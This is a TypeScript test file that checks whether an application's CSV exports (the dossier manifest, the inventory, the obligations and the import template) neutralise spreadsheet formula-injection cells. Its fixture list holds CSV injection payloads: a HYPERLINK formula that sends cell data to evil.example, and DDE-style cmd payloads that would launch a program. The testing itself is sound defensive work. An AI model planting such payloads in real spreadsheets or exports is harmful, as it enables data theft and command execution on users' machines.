import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { obligationsCsvStream } from "@/app/(app)/obligations/export/obligations-file";
import { dossierZipStream } from "@/lib/dossier/zip-stream";
import { systemsCsvStream } from "@/app/(app)/systems/export/systems-csv";
import { exportObligations } from "@/lib/dal/obligations/obligation-export";
import { exportSystems } from "@/lib/dal/systems/system-list";
import { importTemplateCsv } from "@/lib/import/csv";
import { parseObligationListParams } from "@/lib/validations/obligation-list";
import { parseSystemListParams } from "@/lib/validations/system-list";
import { createOrganization, createSystem } from "../../helpers/factories";
import { createObligation } from "../obligations/helpers";

// CSV injection: a cell that starts with = + - @ tab or CR runs as a formula when the file is opened in a
// spreadsheet (=HYPERLINK can send the sheet's data away). Every CSV Actlas writes must neutralise such cells.
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nsecond line",
];
const FORMULA_START = /^[=+\-@\t\r]/;

async function textOf(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

function cells(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

// The ZIP stores its entries uncompressed: manifest.csv is the last entry, read up to the next ZIP record.
function manifestOf(zip: Buffer): string {
  const text = zip.toString("utf8");
  const start = text.search(/"?system"?,"?version"?,"?kind"?,"?file"?/);
  expect(start).toBeGreaterThan(0);
  const end = text.indexOf("PK", start);
  return text.slice(start, end);
}

function expectNeutralised(all: string[]) {
  expect(all.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  for (const value of HOSTILE) expect(all).toContain(`'${value}`);
}

async function hostileOrganisation() {
  const org = await createOrganization("CSV injection");
  const systems: { id: string; name: string }[] = [];
  for (const name of HOSTILE) {
    const id = await createSystem(org.organizationId, name);
    systems.push({ id, name });
    await createObligation(org.organizationId, id, { title: name, article: "Art 9" });
  }
  return { ...org, systems };
}

describe("every CSV export neutralises formula cells", () => {
  it("the dossier ZIP's manifest.csv", async () => {
    const { admin, systems } = await hostileOrganisation();
    const zip = Buffer.from(
      await new Response(dossierZipStream(admin, systems, new AbortController().signal)).arrayBuffer(),
    );
    expectNeutralised(cells(manifestOf(zip)));
  });

  it("the inventory export", async () => {
    const { admin } = await hostileOrganisation();
    expectNeutralised(cells(await textOf(systemsCsvStream(await exportSystems(admin, parseSystemListParams({}))))));
  });

  it("the obligations export", async () => {
    const { admin } = await hostileOrganisation();
    expectNeutralised(
      cells(
        await textOf(obligationsCsvStream(await exportObligations(admin, parseObligationListParams({ status: "" })))),
      ),
    );
  });

  it("the import template", () => {
    expect(cells(importTemplateCsv()).filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  });
});
